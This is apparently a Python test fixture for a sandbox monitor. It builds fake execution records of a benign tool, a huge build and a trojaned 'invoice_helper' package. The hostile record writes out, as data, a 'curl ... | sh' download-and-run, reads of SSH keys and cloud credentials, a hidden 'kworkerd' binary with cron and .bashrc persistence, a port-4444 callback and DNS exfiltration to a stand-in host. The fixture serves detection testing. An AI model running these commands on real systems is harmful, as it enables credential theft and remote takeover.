"""Records of calls that never were: a hostile one, a good one, a huge one."""

import random
from collections.abc import Iterator

from sandbox.record import (
    EnvironmentEvent,
    Event,
    FileAccess,
    FileEvent,
    NetworkEvent,
    Outcome,
    ProgramEvent,
    PythonAction,
    PythonEvent,
    Record,
    Sample,
    SeenProcess,
    SignalEvent,
    SystemCallCount,
    SystemCallEvent,
)

UNWATCHED = ("read", "write", "mmap", "munmap", "brk", "futex", "clock_nanosleep", "epoll_wait")
LIBRARY = "/opt/python/lib/python3.11"
IMPORTED = (
    *("os", "json", "re", "base64", "socket", "ssl", "urllib/request", "http/client", "ctypes"),
    *("email/parser", "subprocess", "logging", "hashlib", "tempfile", "shutil", "threading"),
    *("queue", "enum", "typing", "dataclasses", "pathlib", "zlib"),
)


def samples(end: float, count: int = 60, peak: int = 96 << 20) -> tuple[Sample, ...]:
    """Give the curves of a call that imports, works and waits."""
    chance = random.Random(7)  # noqa: S311  # numbers to draw
    cpu, output, made = 0.0, 0, list[Sample]()
    for step in range(count + 1):
        share = 0.95 if step < count / 4 or count * 0.6 < step < count * 0.8 else 0.1
        cpu += share * chance.uniform(0.6, 1) * end / count
        output += chance.choice((0, 0, 180, 700))
        memory = int(peak * min(1.0, 0.2 + step / count) * chance.uniform(0.9, 1))
        processes = 1 + (step > count / 6) + 2 * (count / 3 < step < count * 0.9)
        made.append(
            Sample(
                at=step * end / count,
                cpu_seconds=cpu,
                memory_bytes=memory,
                processes=processes,
                output_bytes=output,
            )
        )
    return tuple(made)


def process(
    number: int, parent: int | None, name: str, start: float, end: float | None
) -> SeenProcess:
    """Give a process."""
    return SeenProcess(
        number=number, parent=parent, pid=number + 1, started_at=start, ended_at=end, name=name
    )


def file(
    at: float, by: int, access: FileAccess, path: str, outcome: Outcome = "allowed", **more: object
) -> FileEvent:
    """Give a file event."""
    keys = {"at": at, "process": by, "access": access, "path": path, "outcome": outcome, **more}
    return FileEvent.model_validate(keys)


def starting(by: int = 1, at: float = 0.02) -> Iterator[Event]:
    """Give what every Python does as it starts and imports."""
    yield file(at, by, "read", "/etc/ld.so.cache")
    yield file(at + 0.01, by, "look", f"{LIBRARY}/pyvenv.cfg", "missing")
    for place, name in enumerate(IMPORTED):
        moment = at + 0.02 + place * 0.022
        yield file(moment, by, "look", f"{LIBRARY}/{name}.so", "missing", count=3)
        yield file(moment + 0.002, by, "read", f"{LIBRARY}/{name}.py", count=2)
        yield file(moment + 0.004, by, "read", f"{LIBRARY}/__pycache__/{name}.pyc")
        yield PythonEvent(at=moment + 0.006, process=by, action="import", detail=name)


HOSTILE_PROCESSES = (
    process(1, None, "python -m invoice_helper --month 2026-10 orders.csv", 0.0, 2.41),
    process(2, 1, "sh -c 'curl -s http://198.51.100.7/i | sh'", 0.72, 1.31),
    process(3, 2, "curl -s http://198.51.100.7/i", 0.74, 1.12),
    process(4, 2, "sh", 0.75, 1.3),
    process(5, 1, "", 1.02, None),
    process(6, 5, "/tmp/.cache/kworkerd --quiet", 1.1, None),
    process(7, 6, "ps aux", 1.62, 1.7),
)


def _reading() -> Iterator[Event]:
    packages = "/opt/packages/invoice_helper"
    yield file(0.03, 1, "read", f"{packages}/__init__.py")
    yield file(0.05, 1, "read", f"{packages}/__main__.py")
    yield file(0.56, 1, "read", "/box/orders.csv", named="orders.csv", count=14, last_at=2.2)
    for place, name in enumerate((".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".netrc")):
        yield file(0.60 + place * 0.01, 1, "read", f"/root/{name}", "missing", named=f"~/{name}")
    yield file(0.65, 1, "list", "/home", "refused")
    yield file(0.66, 1, "read", "/etc/passwd", count=2, last_at=1.9)
    yield file(0.67, 1, "read", "/etc/shadow", "refused")
    yield file(0.68, 1, "read", "/proc/1/environ", "refused", count=3, last_at=1.4)
    yield file(0.69, 1, "list", "/proc")
    for number in range(2, 8):
        outcome: Outcome = "refused" if number > 5 else "allowed"
        yield file(1.63, 7, "read", f"/proc/{number}/cmdline", outcome)


def _writing() -> Iterator[Event]:
    yield file(1.00, 1, "create", "/tmp/.cache")
    yield file(1.04, 1, "create", "/tmp/.cache/kworkerd")
    yield file(1.05, 1, "write", "/tmp/.cache/kworkerd", count=9, last_at=1.09)
    yield file(1.09, 1, "change", "/tmp/.cache/kworkerd")
    yield file(1.30, 6, "create", "/etc/cron.d/kworkerd", "refused")
    yield file(1.31, 6, "link", "/root/.bashrc", "refused", to="/tmp/.cache/kworkerd")
    yield file(1.33, 6, "write", "/usr/bin/python3", "refused")
    yield file(2.05, 1, "create", "/box/report.html.part")
    yield file(2.06, 1, "write", "/box/report.html.part", count=31, last_at=2.3)
    yield file(2.31, 1, "rename", "/box/report.html.part", to="/box/report.html")
    yield file(2.33, 1, "remove", "/box/orders.csv", count=1)
    yield file(2.34, 1, "create", "/box/report.html", "failed")


def _reaching() -> Iterator[Event]:
    keys = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "HOME", "LANG", "INVOICE_TZ")
    for place, name in enumerate(keys):
        outcome: Outcome = "allowed" if name in {"HOME", "LANG"} else "missing"
        yield EnvironmentEvent(at=0.58 + place / 500, process=1, name=name, outcome=outcome)
    yield NetworkEvent(
        at=0.71, process=1, outcome="refused", action="resolve", family="inet", address="10.0.0.2",
        port=53, name="telemetry.invoice-helper.example",
    )  # fmt: skip
    for place in range(6):
        yield NetworkEvent(
            at=0.8 + place * 0.27, process=3 if place < 2 else 6, outcome="refused",
            action="connect", family="inet", address="198.51.100.7", port=80 if place < 2 else 4444,
            count=place + 1,
        )  # fmt: skip
    yield NetworkEvent(
        at=1.5, process=6, outcome="refused", action="send", family="inet6",
        address="2001:db8::7", port=53, sent="\\x12\\x34\\x01\\x00\\x00\\x01 exfil.example",
    )  # fmt: skip
    yield NetworkEvent(
        at=1.2, process=6, action="bind", family="unix", address="@kworkerd-0", outcome="allowed"
    )


def _programs() -> Iterator[Event]:
    def program(at: float, by: int, *argv: str, outcome: Outcome = "allowed") -> ProgramEvent:
        path = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}"
        return ProgramEvent(at=at, process=by, path=path, argv=argv, outcome=outcome)

    yield program(0.0, 1, "python", "-m", "invoice_helper", "--month", "2026-10", "orders.csv")
    yield program(0.72, 2, "sh", "-c", "curl -s http://198.51.100.7/i | sh")
    yield program(0.74, 3, "curl", "-s", "http://198.51.100.7/i")
    yield program(0.75, 4, "sh")
    yield program(1.1, 6, "/tmp/.cache/kworkerd", "--quiet")
    yield program(1.6, 6, "sudo", "-n", "true", outcome="missing")
    yield program(1.62, 7, "ps", "aux")


def _kernel() -> Iterator[Event]:
    calls = (
        ("ptrace", "EPERM", "reads and changes other processes", 3),
        ("mount", "EPERM", "changes what the guest sees of the file system", 1),
        ("bpf", "EPERM", "programs for the kernel: a wide attack surface", 1),
        ("io_uring_setup", "ENOSYS", "a second way to every call, past the filter", 2),
        ("keyctl", "nothing", "the kernel's keys are shared with the host", 1),
    )
    for place, (name, error, why, count) in enumerate(calls):
        yield SystemCallEvent(
            at=1.36 + place * 0.06, process=6, outcome="refused", name=name, error=error, why=why,
            count=count,
        )  # fmt: skip
    yield SignalEvent(at=1.75, process=6, signal="SIGSTOP", target="process 1", outcome="allowed")
    yield SignalEvent(at=1.8, process=6, signal="SIGKILL", target="everybody", outcome="refused")
    yield SignalEvent(at=1.9, process=1, signal="SIGCHLD", target="itself")


def _python() -> Iterator[Event]:
    told: tuple[tuple[PythonAction, str, str], ...] = (
        ("decode", "base64, 18432 characters", "invoice_helper/_compat.py:41"),
        ("decode", "zlib", "invoice_helper/_compat.py:41"),
        ("compile", "<string>", "invoice_helper/_compat.py:42"),
        ("exec", "<string>", "invoice_helper/_compat.py:42"),
        ("url", "http://198.51.100.7/i", "<string>:3"),
        ("resolve", "telemetry.invoice-helper.example", "<string>:5"),
        ("library", "libc.so.6", "<string>:9"),
        ("unpickle", "builtins.eval", "invoice_helper/cache.py:88"),
        ("program", "sh -c 'curl -s http://198.51.100.7/i | sh'", "<string>:12"),
    )
    for place, (action, detail, where) in enumerate(told):
        at = 0.57 + place * 0.015
        yield PythonEvent(at=at, process=1, action=action, detail=detail, where=where)


def system_calls(counted: dict[str, int], refused: dict[str, int]) -> tuple[SystemCallCount, ...]:
    """Give the counts; a call that is only refused was made as often as it was refused."""
    counts = {name: (counted.get(name, refused.get(name, 0))) for name in counted | refused}
    return tuple(
        SystemCallCount(name=name, count=count, refused=refused.get(name, 0))
        for name, count in sorted(counts.items())
    )


def hostile_record() -> Record:
    """Give the record of a tool that steals, calls home and stays."""
    parts = (starting(), _reading(), _writing(), _reaching(), _programs(), _kernel(), _python())
    events = sorted((event for part in parts for event in part), key=lambda event: event.at)
    counted = {"openat": 214, "newfstatat": 388, "execve": 7, "connect": 8, "clone3": 6, "kill": 3}
    refused = {"ptrace": 3, "mount": 1, "bpf": 1, "io_uring_setup": 2, "keyctl": 1, "connect": 6}
    return Record(
        processes=HOSTILE_PROCESSES,
        events=tuple(events),
        samples=samples(2.41),
        system_calls=system_calls(counted, refused),
        not_kept=1_204,
        unwatched=UNWATCHED,
    )


def good_record() -> Record:
    """Give the record of a tool that reads its input, and writes its output."""
    events = (
        ProgramEvent(
            at=0.0, process=1, path="/usr/bin/python3", argv=("python3", "count_words.py")
        ),
        *starting(),
        file(0.6, 1, "read", "/box/text.txt"),
        file(0.7, 1, "create", "/box/counts.json"),
        file(0.71, 1, "write", "/box/counts.json", count=3, last_at=0.74),
    )
    return Record(
        processes=(process(1, None, "python3 count_words.py", 0.0, 0.8),),
        events=events,
        samples=samples(0.8, 24, 24 << 20),
        system_calls=system_calls({"openat": 66, "newfstatat": 140, "execve": 1}, {}),
        unwatched=UNWATCHED,
    )


def _huge_event(chance: random.Random, place: int, at: float, by: int) -> Event:
    """Give one of many: nine in ten are about files."""
    match place % 20:
        case 0:
            return NetworkEvent(
                at=at, process=by, outcome="refused", action="connect", family="inet",
                address=f"198.51.100.{place % 251}", port=chance.choice((22, 80, 443)),
            )  # fmt: skip
        case 1:
            return EnvironmentEvent(at=at, process=by, name=f"VARIABLE_{place % 97}")
        case _:
            access: FileAccess = chance.choice(("look", "read", "read", "write", "create", "list"))
            outcome: Outcome = chance.choice(("allowed",) * 6 + ("missing", "refused"))
            path = f"/box/data/{place % 40:02}/{place % 7}/part-{place:05}.bin"
            return file(at, by, access, path, outcome)


def huge_record(events: int = 20_000, processes: int = 300) -> Record:
    """Give a record as large as they come: a build, or a fork bomb."""
    chance = random.Random(11)  # noqa: S311  # places to draw
    tree = [process(1, None, "make -j 16 everything", 0.0, 58.0)]
    for number in range(2, processes + 1):
        start = 0.5 + number * 50 / processes
        parent = max(1, number // 4)
        name = f"cc -c part-{number:03}.c -o part-{number:03}.o" if number % 5 else ""
        tree.append(process(number, parent, name, start, min(58.0, start + chance.uniform(0.5, 9))))
    many = list[Event]()
    for place in range(events):
        owner = tree[min(processes - 1, int(chance.random() ** 2 * processes))]
        end = owner.ended_at or 58.0
        many.append(_huge_event(chance, place, chance.uniform(owner.started_at, end), owner.number))
    return Record(
        processes=tuple(tree),
        events=tuple(sorted(many, key=lambda event: event.at)),
        samples=samples(58.0, 580, 800 << 20),
        system_calls=system_calls(
            {f"call_{number}": number * number for number in range(1, 90)}, {}
        ),
        not_kept=1_000_000,
        unwatched=UNWATCHED,
    )
